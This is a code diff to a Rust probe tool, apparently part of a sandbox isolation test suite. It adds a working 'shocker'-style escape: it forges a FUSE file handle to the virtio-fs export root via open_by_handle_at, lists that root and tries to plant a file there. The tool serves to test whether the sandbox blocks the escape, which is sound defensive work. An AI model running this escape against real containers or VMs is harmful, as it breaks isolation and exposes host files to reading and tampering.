@@ -12,6 +12,11 @@
 //!                                  MARKER (the runtime's own processes joining the container,
 //!                                  e.g. for `exec`), then tries to write to the file once the
 //!                                  process is gone (`OPENED` / `WROTE` lines)
+//! `clearbox-attack-probe handle-root PATH` the "shocker" escape on virtio-fs: takes the FUSE
+//!                                  file handle of PATH (a file on the share), rewrites its node
+//!                                  id to 1 (the FUSE root: the share's export root) and opens
+//!                                  it with open_by_handle_at; `OPENED` and the names it lists
+//!                                  if that worked, `WROTE` if a file could be made there
 //!
 //! Always exits 0 after printing; the caller judges the lines.
 #![allow(clippy::print_stdout)]
@@ -107,6 +112,86 @@ fn vsock() {
                 println!("vsock type={tname} cid={cid} port={port} {r}");
             }
         }
+    }
+}
+
+/// struct file_handle with room for a FUSE handle (3 u32: node id high/low, generation).
+#[repr(C)]
+struct FileHandle {
+    handle_bytes: u32,
+    handle_type: i32,
+    f_handle: [u32; 4],
+}
+
+fn handle_root(path: &str) {
+    let Ok(cpath) = std::ffi::CString::new(path) else {
+        println!("name_to_handle_at=EINVAL");
+        return;
+    };
+    let mut h = FileHandle {
+        handle_bytes: 16,
+        handle_type: 0,
+        f_handle: [0; 4],
+    };
+    let mut mount_id: libc::c_int = 0;
+    // SAFETY: name_to_handle_at reads the NUL-terminated path and writes at most
+    // `handle_bytes` (16) bytes of handle into `h` and one int into `mount_id`.
+    let rc = unsafe {
+        libc::syscall(
+            libc::SYS_name_to_handle_at,
+            libc::AT_FDCWD,
+            cpath.as_ptr(),
+            &mut h as *mut FileHandle,
+            &mut mount_id as *mut libc::c_int,
+            0,
+        )
+    };
+    if rc != 0 {
+        println!("name_to_handle_at={}", last_errno());
+        return;
+    }
+    println!("handle type={:#x} bytes={}", h.handle_type, h.handle_bytes);
+    // FUSE's handle: node id (high, low), generation. The root node is 1, generation 0.
+    h.f_handle[0] = 0;
+    h.f_handle[1] = 1;
+    h.f_handle[2] = 0;
+    let Ok(file) = std::fs::File::open(path) else {
+        println!("open={}", last_errno());
+        return;
+    };
+    use std::os::fd::AsRawFd;
+    // SAFETY: open_by_handle_at reads the handle (its size is in its header) and returns a
+    // new descriptor or -1.
+    let fd = unsafe {
+        libc::syscall(
+            libc::SYS_open_by_handle_at,
+            file.as_raw_fd(),
+            &mut h as *mut FileHandle,
+            libc::O_RDONLY | libc::O_DIRECTORY,
+        )
+    };
+    if fd < 0 {
+        println!("open_by_handle_at={}", last_errno());
+        return;
+    }
+    // SAFETY: open_by_handle_at returned a new descriptor that nothing else owns.
+    let root = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd as i32) };
+    let listed = std::fs::read_dir(format!("/proc/self/fd/{}", root.as_raw_fd()))
+        .map(|d| {
+            d.flatten()
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect::<Vec<_>>()
+                .join(",")
+        })
+        .unwrap_or_default();
+    println!("open_by_handle_at OPENED [{listed}]");
+    let planted = format!("/proc/self/fd/{}/PLANTED", root.as_raw_fd());
+    match std::fs::write(&planted, "x") {
+        Ok(()) => println!("export root WROTE"),
+        Err(e) => println!(
+            "export root write={}",
+            errno_name(e.raw_os_error().unwrap_or(0))
+        ),
     }
 }
 
@@ -273,6 +358,7 @@ fn main() {
         Some("vsock") => vsock(),
         Some("io_uring") => io_uring(),
         Some("rpc") => rpc(),
+        Some("handle-root") => handle_root(&std::env::args().nth(2).unwrap_or_default()),
         Some("exe") => {
             let secs = std::env::args()
                 .nth(2)
@@ -282,7 +368,9 @@ fn main() {
             exe(Duration::from_secs(secs), marker.as_bytes());
         }
         _ => {
-            eprintln!("usage: clearbox-attack-probe vsock|io_uring|rpc|exe SECS MARKER");
+            eprintln!(
+                "usage: clearbox-attack-probe vsock|io_uring|rpc|exe SECS MARKER|handle-root PATH"
+            );
             std::process::exit(2);
         }
     }
